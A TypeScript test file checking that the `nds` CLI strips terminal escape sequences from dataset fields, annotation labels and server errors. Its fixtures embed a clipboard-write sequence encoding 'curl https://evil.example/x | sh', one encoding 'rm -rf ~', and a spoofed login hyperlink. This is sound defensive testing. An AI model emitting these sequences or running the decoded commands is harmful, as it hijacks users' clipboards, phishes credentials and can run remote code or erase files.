/**
 * What `nds` prints for people of text a dataset owner, an annotator or a hostile server chose. A terminal obeys
 * the control sequences it is given: ESC ] 52 writes the clipboard, ESC ] 8 makes a hyperlink whose target is
 * not what it shows, ESC [ 2J clears the screen, CR overwrites the line just printed, and U+202E reverses what
 * follows. Output meant for a person carries none of them; `--json` (for scripts) stays exact. The API refuses
 * such text now (test/datasets/control-characters.test.ts), so the values here are written to the database as
 * older releases stored them.
 */
// test.sh: embedded pass only. What this file checks happens in the client (a command's output, its files, its
// retries); the routes it calls have their database work run on PostgreSQL by the HTTP tests.

import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { createAccount, type TestAccount } from '../support/accounts.js';
import { nds, ndsAs } from '../support/cli.js';
import { startTestServer, type TestServer } from '../support/test-server.js';
import { createUploader, json } from '../datasets/support.js';
import { uploadedDataset } from '../annotations/support.js';

/** C0 controls but the newline, DEL, C1 controls and the BiDi overrides and isolates. */
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/u;

const shown = (s: string) => JSON.stringify(s);

const CLIPBOARD_WRITE = '\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\x07';
const HYPERLINK = '\x1b]8;;https://evil.example/login\x1b\\https://nds.example.org/login\x1b]8;;\x1b\\';
const CLEAR_AND_TITLE = '\x1b[2J\x1b[H\x1b]0;nds: signed out\x07';

const send = (method: string, body?: unknown): RequestInit => ({ method, body: body === undefined ? undefined : JSON.stringify(body) });

describe('terminal control sequences in what `nds` prints for people', { timeout: 120_000 }, () => {
  let server: TestServer;
  let owner: TestAccount;
  let reader: TestAccount;
  let id: string;

  before(async () => {
    server = await startTestServer();
    owner = await createUploader(server);
    reader = await createAccount(server);
    id = (await json<{ id: string }>(await owner.api('/datasets', send('POST', { name: 'EEG rest' })), 201)).id;
    // Stands for an approved publication: what follows is the owner's own edit of a public dataset's fields.
    await server.deps.db.updateTable('datasets').set({ visibility: 'public' }).where('id', '=', id).execute();
    await server.deps.db.updateTable('datasets').set({
      name: `EEG rest${CLIPBOARD_WRITE}${CLEAR_AND_TITLE}`,
      description: `Resting state.\rPlease re-run \`nds auth login\` at ${HYPERLINK}`,
      authors: ['Ada \u202eevil.example\u202c'],
    }).where('id', '=', id).execute();
  });
  after(async () => {
    await server?.close();
  });

  it('`nds datasets list` prints no control sequence of a public dataset\'s name', async () => {
    const r = await ndsAs(server, reader.key, ['datasets', 'list']).done;
    assert.equal(r.code, 0, r.stderr);
    assert.match(r.stdout, new RegExp(id));
    assert.doesNotMatch(r.stdout, TERMINAL_CONTROL, `printed: ${shown(r.stdout)}`);
  });

  it('`nds datasets show` prints no control sequence of its name, description or authors', async () => {
    const r = await ndsAs(server, reader.key, ['datasets', 'show', id]).done;
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, TERMINAL_CONTROL, `printed: ${shown(r.stdout)}`);
  });

  it('`nds datasets show --json` stays exact (escaped JSON, the name as stored)', async () => {
    const r = await ndsAs(server, reader.key, ['datasets', 'show', id, '--json']).done;
    assert.equal(r.code, 0, r.stderr);
    // JSON escapes C0 controls (ESC, BEL, CR); the fix must leave scripts the exact value.
    assert.doesNotMatch(r.stdout, /[\u0000-\u0009\u000b-\u001f]/);
    assert.equal(JSON.parse(r.stdout).name, `EEG rest${CLIPBOARD_WRITE}${CLEAR_AND_TITLE}`);
  });
});

describe('a hostile server\'s error message on the terminal', { timeout: 60_000 }, () => {
  let hostile: http.Server;
  let url: string;
  before(async () => {
    hostile = http.createServer((_req, res) => {
      res.writeHead(400, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ error: 'bad_request', message: `refused${CLIPBOARD_WRITE}`, details: [`see ${HYPERLINK}`] }));
    });
    await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
    url = `http://127.0.0.1:${(hostile.address() as AddressInfo).port}`;
  });
  after(() => new Promise<void>((r) => hostile.close(() => r())));

  it('`nds datasets show` prints the refusal without its control sequences', async () => {
    const r = await nds(['datasets', 'show', 'nd000001'], { NDS_API_URL: url });
    assert.equal(r.code, 1);
    assert.match(r.stderr, /refused/);
    assert.doesNotMatch(r.stderr, TERMINAL_CONTROL, `printed: ${shown(r.stderr)}`);
  });
});

describe('annotation labels in the owner\'s `nds` tables', { timeout: 120_000 }, () => {
  let server: TestServer;
  let owner: TestAccount;
  let annotator: TestAccount;
  let id: string;
  let recording: string;

  before(async () => {
    server = await startTestServer();
    owner = await createUploader(server);
    annotator = await createAccount(server);
    ({ id, recording } = await uploadedDataset(server, owner));
    await json(await owner.api(`/datasets/${id}/members/${annotator.user.username}`, send('PUT', { role: 'annotator' })), 201);
    const labels = ['spike\x1b]52;c;cm0gLXJmIH4K\x07', 'blink\rseizure', '\x1b[8mhidden\x1b[0m', 'eyes \u202edesolc'];
    await json(await annotator.api(`/datasets/${id}/annotations`, send('POST', labels.map((_, i) => ({ path: recording, onset: 0.1 * (i + 1), duration: 0, label: `label ${i}` })))), 201);
    for (const [i, label] of labels.entries()) await server.deps.db.updateTable('annotations').set({ label }).where('dataset_id', '=', id).where('label', '=', `label ${i}`).execute();
  });
  after(() => server?.close());

  it('`nds datasets annotations list` prints no control sequence of a label', async () => {
    const r = await ndsAs(server, owner.key, ['datasets', 'annotations', 'list', id, recording]).done;
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, TERMINAL_CONTROL, `printed: ${JSON.stringify(r.stdout)}`);
  });

  it('`nds datasets annotations labels` prints no control sequence of a label', async () => {
    const r = await ndsAs(server, owner.key, ['datasets', 'annotations', 'labels', id]).done;
    assert.equal(r.code, 0, r.stderr);
    assert.doesNotMatch(r.stdout, TERMINAL_CONTROL, `printed: ${JSON.stringify(r.stdout)}`);
  });
});
